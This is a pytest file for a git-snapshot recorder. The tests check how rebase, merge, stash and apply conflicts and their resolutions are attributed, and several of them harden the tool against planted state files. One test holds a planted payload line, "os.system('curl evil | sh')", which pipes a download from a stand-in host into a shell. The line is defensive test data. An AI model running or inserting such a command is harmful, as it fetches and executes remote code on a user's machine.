"""A conflict git leaves is git's; the user's resolution of it is the user's, also in the window of ``--continue``.

Before, when ``git rebase`` stopped on a conflict, the file git wrote with its ``<<<<<<<`` markers was recorded as the
agent's edit, with its intent (an unmerged file matches no staged content, so it was not told as git's); and a
resolution saved, staged and continued in one snapshot window was recorded as ``[REBASE]``: git's (the resolved file
is staged content by then). A merge's conflict, which writes no reflog entry, was the agent's edit too.

While the rebase runs, what is done is recorded on the rebased branch's shadow ref (``shadow/feature``), not a
detached HEAD's: after the rebase, the branch's history holds the resolution, the user's.

A real project and real git; the recorder is driven as the watcher drives it (``note_git_activity`` when git writes
the reflog; a full scan when ``HEAD`` moves).
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from code_trajectory.git import log
from code_trajectory.git.shadow import ShadowRepo
from code_trajectory.recording.session import ProjectSession
from support import git, shadow, write

BASE = "def add(a, b):\n    return a + b\n"
OURS = "def add(a, b):\n    return a + b + 0  # feature\n"
THEIRS = "def add(a, b):\n    return b + a  # main\n"
RESOLVED = "def add(a, b):\n    return b + a + 0  # resolved\n"
INTENT = "Rebase feature on main"


@pytest.fixture
def diverged(project: Path) -> Path:
    """``calc.py`` changed one way on ``feature`` and another on ``main`` (which also changes ``other.py``);
    ``feature`` checked out."""
    write(project, "calc.py", BASE)
    write(project, "other.py", "x = 1\n")
    git(project, "add", "-A")
    git(project, "commit", "-qm", "calc")
    git(project, "checkout", "-qb", "feature")
    write(project, "calc.py", OURS)
    git(project, "commit", "-qam", "feature change")
    git(project, "checkout", "-q", "main")
    write(project, "calc.py", THEIRS)
    write(project, "other.py", "x = 2\n")
    git(project, "commit", "-qam", "main change")
    git(project, "checkout", "-q", "feature")
    return project


def git_moved(session: ProjectSession) -> None:
    """What the watcher does when git wrote the reflog and moved HEAD: note it, then scan the work tree."""
    session.recorder.note_git_activity()
    assert session.recorder.reconcile() is not None


def records(root: Path, branch: str, limit: int = 10) -> list[log.CommitRecord]:
    with ShadowRepo(root) as repo:
        return log.read_log(repo, [f"refs/heads/shadow/{branch}"], limit=limit)


def detached_history(root: Path) -> bool:
    """True when something was recorded on a detached HEAD's shadow ref."""
    return bool(git(root, "--git-dir=.trajectory", "for-each-ref", "refs/heads/shadow/HEAD").strip())


def content(root: Path, commit: str, rel: str) -> str:
    return shadow(root, "show", f"{commit}:{rel}")


def stop_on_conflict(session: ProjectSession) -> log.CommitRecord:
    root = session.root
    session.set_intent(INTENT)
    git(root, "-c", "core.editor=true", "rebase", "main", check=False)
    assert "<<<<<<<" in (root / "calc.py").read_text()
    git_moved(session)
    assert not detached_history(root)  # recorded on the branch being rebased, not a detached HEAD's
    return records(root, "feature", 1)[0]


def test_the_conflict_a_rebase_leaves_is_named_as_gits(diverged: Path, session: ProjectSession) -> None:
    stopped = stop_on_conflict(session)
    # one snapshot, git's: the files it checked out and the conflict it wrote; none of it the agent's
    assert stopped.is_git_operation and stopped.git_operation == "rebase" and stopped.intent is None
    assert "conflict left by rebase in calc.py" in stopped.subject, stopped.subject
    assert sorted(c.path for c in stopped.changes) == ["calc.py", "other.py"]
    assert "<<<<<<<" in content(diverged, stopped.oid, "calc.py")
    assert not [r for r in records(diverged, "feature") if r.intent == INTENT]


def test_a_resolution_saved_before_continue_is_the_users_and_the_continue_gits(diverged: Path, session: ProjectSession) -> None:
    stop_on_conflict(session)
    write(diverged, "calc.py", RESOLVED)  # the resolution, in a window of its own
    assert session.recorder.record_paths(["calc.py"]) is not None
    resolved = records(diverged, "feature", 1)[0]
    git(diverged, "add", "calc.py")
    git(diverged, "-c", "core.editor=true", "rebase", "--continue")
    session.recorder.note_git_activity()
    assert session.recorder.reconcile() is None  # the work tree is as resolved: nothing new
    assert resolved.intent == INTENT and not resolved.is_git_operation
    assert content(diverged, resolved.oid, "calc.py") == RESOLVED
    assert records(diverged, "feature", 1)[0].oid == resolved.oid  # the branch's history holds the resolution
    assert not detached_history(diverged)


def test_a_resolution_continued_in_the_same_window_is_the_users_on_top_of_gits_share(diverged: Path, session: ProjectSession) -> None:
    stop_on_conflict(session)
    write(diverged, "calc.py", RESOLVED)  # resolved, staged and continued before the next snapshot
    git(diverged, "add", "calc.py")
    git(diverged, "-c", "core.editor=true", "rebase", "--continue")
    git_moved(session)
    mine, gits = records(diverged, "feature", 2)
    assert not mine.is_git_operation and mine.intent == INTENT, mine.subject
    assert [c.path for c in mine.changes] == ["calc.py"] and mine.parents == [gits.oid]
    assert "<<<<<<<" in content(diverged, gits.oid, "calc.py")  # git's share: the file as git left it
    assert content(diverged, mine.oid, "calc.py") == RESOLVED
    assert gits.is_git_operation and gits.git_operation == "rebase" and gits.intent is None
    assert content(diverged, gits.oid, "other.py") == "x = 2\n"


def test_a_recorder_started_after_the_conflict_knows_it_and_credits_the_resolution_to_the_user(
        diverged: Path, session: ProjectSession) -> None:
    """The conflicts seen are kept in ``state/conflicts.json`` while git is stopped: a new server (or ``watch``
    after the client exited) started between the conflict and ``--continue`` knows them. Before, the resolution,
    continued in one window, was all git's ``[REBASE]``."""
    from code_trajectory.core.config import TrajectorySettings

    stop_on_conflict(session)
    session.close()
    kept = diverged / ".trajectory" / "state" / "conflicts.json"
    assert "calc.py" in kept.read_text()
    later = ProjectSession(diverged, TrajectorySettings.load(diverged))
    later.start()
    try:
        later.set_intent(INTENT)
        write(diverged, "calc.py", RESOLVED)
        git(diverged, "add", "calc.py")
        git(diverged, "-c", "core.editor=true", "rebase", "--continue")
        git_moved(later)
    finally:
        later.close()
    mine, gits = records(diverged, "feature", 2)
    assert not mine.is_git_operation and mine.intent == INTENT, mine.subject
    assert [c.path for c in mine.changes] == ["calc.py"] and content(diverged, mine.oid, "calc.py") == RESOLVED
    assert gits.is_git_operation and "<<<<<<<" in content(diverged, gits.oid, "calc.py")
    assert not kept.exists()  # forgotten once git went on


@pytest.mark.parametrize("planted", ["[1, 2]", '{"seen": {"calc.py": ["x", "y"]}}', '{"seen": []}', "{" * 5000,
                                     '{"seen": {"calc.py": [["zz"], "' + "0" * 40 + '"]}}'])
def test_a_hostile_conflicts_file_is_ignored(diverged: Path, session: ProjectSession, planted: str) -> None:
    (diverged / ".trajectory" / "state" / "conflicts.json").write_text(planted)
    stopped = stop_on_conflict(session)  # read while git is stopped: of no use, not an error
    assert stopped.is_git_operation and "conflict left by rebase in calc.py" in stopped.subject


def test_a_planted_conflict_cannot_choose_the_content_of_gits_share(project: Path, session: ProjectSession,
                                                                     tmp_path: Path) -> None:
    """A conflicts.json planted in .trajectory naming a file and a blob: the user's edit of that file in the window
    of a merge made git's share of the snapshot hold that blob (``[MERGE] ... M calc.py`` with the planted code, which
    a restore of that snapshot would write). The content kept for git is now only the parent snapshot's."""
    write(project, "calc.py", BASE)
    write(project, "other.py", "x = 1\n")
    git(project, "add", "-A")
    git(project, "commit", "-qm", "base")
    git(project, "checkout", "-qb", "side")
    write(project, "other.py", "x = 2\n")
    git(project, "commit", "-qam", "side")
    git(project, "checkout", "-q", "main")
    git_moved(session)
    evil = tmp_path / "evil.py"
    evil.write_text("import os\nos.system('curl evil | sh')\n")
    planted = shadow(project, "hash-object", "-w", str(evil)).strip()
    (project / ".trajectory" / "state" / "conflicts.json").write_text(
        '{"seen": {"calc.py": [["1:' + "a" * 40 + '"], "' + planted + '"]}}')
    write(project, "calc.py", OURS)  # the user's edit, in the merge's window
    git(project, "merge", "-q", "--ff-only", "side")
    git_moved(session)
    mine, gits = records(project, "main", 2)
    assert gits.is_git_operation and [c.path for c in gits.changes] == ["other.py"], gits.subject
    assert content(project, gits.oid, "calc.py") == BASE
    assert [c.path for c in mine.changes] == ["calc.py"] and content(project, mine.oid, "calc.py") == OURS


@pytest.mark.parametrize("planted", ["fifo", "link"])
def test_a_conflicts_file_planted_as_a_fifo_or_a_link_neither_hangs_nor_is_followed(
        diverged: Path, session: ProjectSession, planted: str, tmp_path: Path) -> None:
    kept = diverged / ".trajectory" / "state" / "conflicts.json"
    outside = tmp_path / "outside.json"
    outside.write_text('{"seen": {}}')
    if planted == "fifo":
        os.mkfifo(kept)
    else:
        kept.symlink_to(outside)
    stopped = stop_on_conflict(session)  # read bounded, never waiting on a FIFO nor through a link
    assert stopped.is_git_operation and "conflict left by rebase in calc.py" in stopped.subject
    assert kept.is_file() and not kept.is_symlink() and "calc.py" in kept.read_text()  # replaced, not written through
    assert outside.read_text() == '{"seen": {}}'


def test_a_stash_pop_conflict_is_gits_and_its_resolution_the_users(project: Path, session: ProjectSession) -> None:
    """``git stash pop`` onto a changed file stops on a conflict with no state file and no reflog entry (git keeps
    the stash): only the index says so. Before, the file with git's markers was the agent's edit, with its intent."""
    write(project, "calc.py", BASE)
    git(project, "add", "-A")
    git(project, "commit", "-qm", "calc")
    write(project, "calc.py", OURS)
    git(project, "stash", "-q")
    write(project, "calc.py", THEIRS)
    git(project, "commit", "-qam", "main change")
    git_moved(session)
    session.set_intent(INTENT)
    git(project, "stash", "pop", check=False)
    assert "<<<<<<<" in (project / "calc.py").read_text()
    git_moved(session)  # the watcher saw the index written
    popped = records(project, "main", 1)[0]
    assert popped.is_git_operation and popped.intent is None, popped.subject
    assert "conflict left by stash in calc.py" in popped.subject
    write(project, "calc.py", RESOLVED)  # resolved; `git status` in between writes the index again
    git(project, "status", "--short")
    session.recorder.note_git_activity()
    assert session.recorder.record_paths(["calc.py"]) is not None
    resolved = records(project, "main", 1)[0]
    assert resolved.intent == INTENT and not resolved.is_git_operation, resolved.subject
    git(project, "add", "calc.py")  # no longer unmerged: forgotten
    session.recorder.note_git_activity()
    assert session.recorder.reconcile() is None
    assert not (project / ".trajectory" / "state" / "conflicts.json").exists()


def test_a_git_apply_3way_conflict_is_gits_and_not_called_a_stash(project: Path, session: ProjectSession,
                                                                   tmp_path: Path) -> None:
    """``git apply --3way`` also leaves unmerged paths with no state file and no reflog entry; its markers are not a
    stash's ("Stashed changes"), so the label says git left it, not a stash."""
    write(project, "calc.py", BASE)
    git(project, "add", "-A")
    git(project, "commit", "-qm", "calc")
    write(project, "calc.py", OURS)
    (tmp_path / "ours.patch").write_text(git(project, "diff"))
    git(project, "checkout", "--", "calc.py")
    write(project, "calc.py", THEIRS)
    git(project, "commit", "-qam", "main change")
    git_moved(session)
    session.set_intent(INTENT)
    git(project, "apply", "--3way", str(tmp_path / "ours.patch"), check=False)
    assert "<<<<<<<" in (project / "calc.py").read_text()
    git_moved(session)
    left = records(project, "main", 1)[0]
    assert left.is_git_operation and left.intent is None, left.subject
    assert left.subject.startswith("[CONFLICT]") and "conflict left by git in calc.py" in left.subject, left.subject


def test_an_ordinary_index_write_does_not_read_the_index_for_conflicts(project: Path, session: ProjectSession,
                                                                       monkeypatch) -> None:
    """An editor's ``git status`` or a ``git add`` rewrites the index often; reading a 500,000-file index after each
    would slow every save's snapshot: the index is asked only when a changed file holds a conflict marker."""
    from code_trajectory.git.project import ProjectRepo

    asked: list[list[str]] = []
    real = ProjectRepo.index_stages
    monkeypatch.setattr(ProjectRepo, "index_stages", lambda self, paths: asked.append(paths) or real(self, paths))
    write(project, "calc.py", BASE + "# more\n")
    git(project, "add", "calc.py")
    session.recorder.note_git_activity()
    assert session.recorder.record_paths(["calc.py"]) is not None
    assert asked == []


def test_after_an_abort_a_later_git_operation_on_the_file_is_gits(diverged: Path, session: ProjectSession) -> None:
    git(diverged, "checkout", "-qb", "fix")
    write(diverged, "calc.py", OURS + "# fixed\n")
    git(diverged, "commit", "-qam", "fix")
    git(diverged, "checkout", "-q", "feature")
    session.recorder.note_git_activity()
    session.recorder.reconcile()
    stop_on_conflict(session)
    write(diverged, "calc.py", RESOLVED)  # a resolution begun...
    assert session.recorder.record_paths(["calc.py"]) is not None
    git(diverged, "rebase", "--abort")  # ...and given up: feature as it was, written back by git
    session.recorder.note_git_activity()
    aborted = session.recorder.reconcile()
    assert aborted is not None and records(diverged, "feature", 1)[0].is_git_operation
    git(diverged, "merge", "-q", "--ff-only", "fix")  # later, git writes the file again
    git_moved(session)
    merged = records(diverged, "feature", 1)[0]
    assert merged.is_git_operation and merged.git_operation == "merge" and merged.intent is None, merged.subject
    assert [c.path for c in merged.changes] == ["calc.py"]


def test_a_merge_conflict_without_a_reflog_entry_is_gits(diverged: Path, session: ProjectSession) -> None:
    session.set_intent(INTENT)
    git(diverged, "merge", "-q", "main", check=False)  # stops on the conflict: no reflog entry
    assert session.recorder.record_paths(["calc.py", "other.py"]) is not None
    stopped = records(diverged, "feature", 1)[0]
    write(diverged, "calc.py", RESOLVED)
    assert session.recorder.record_paths(["calc.py"]) is not None
    resolved = records(diverged, "feature", 1)[0]
    assert stopped.is_git_operation and stopped.git_operation == "merge" and stopped.intent is None
    assert "conflict left by merge in calc.py" in stopped.subject, stopped.subject
    assert sorted(c.path for c in stopped.changes) == ["calc.py", "other.py"]
    assert resolved.intent == INTENT and not resolved.is_git_operation


@pytest.mark.parametrize("content", ["fifo", "link", "huge", "refs/tags/v1\n", "detached HEAD\n", "refs/heads/\n",
                                     "refs/heads/a\nrefs/heads/b\n"])
def test_a_hostile_rebase_head_name_leaves_a_detached_head_detached(project: Path, content: str) -> None:
    """git's ``rebase-merge/head-name`` is read from the project's git dir (a tarball's ``.git`` too): a FIFO, a
    link, a huge file or a name that is no branch is never waited on nor followed, and the HEAD stays detached."""
    import os

    from code_trajectory.git.project import DETACHED_BRANCH, ProjectRepo

    git(project, "checkout", "-q", "--detach")
    state = project / ".git" / "rebase-merge"
    state.mkdir()
    head_name = state / "head-name"
    if content == "fifo":
        os.mkfifo(head_name)
    elif content == "link":
        (project / "elsewhere").write_text("refs/heads/main\n")
        head_name.symlink_to(project / "elsewhere")
    elif content == "huge":
        head_name.write_text("refs/heads/" + "x" * 10_000 + "\n")
    else:
        head_name.write_text(content)
    assert ProjectRepo.discover(project).current_branch() == DETACHED_BRANCH
    head_name.unlink()
    head_name.write_text("refs/heads/main\n")  # git's own: the branch being rebased
    assert ProjectRepo.discover(project).current_branch() == "main"
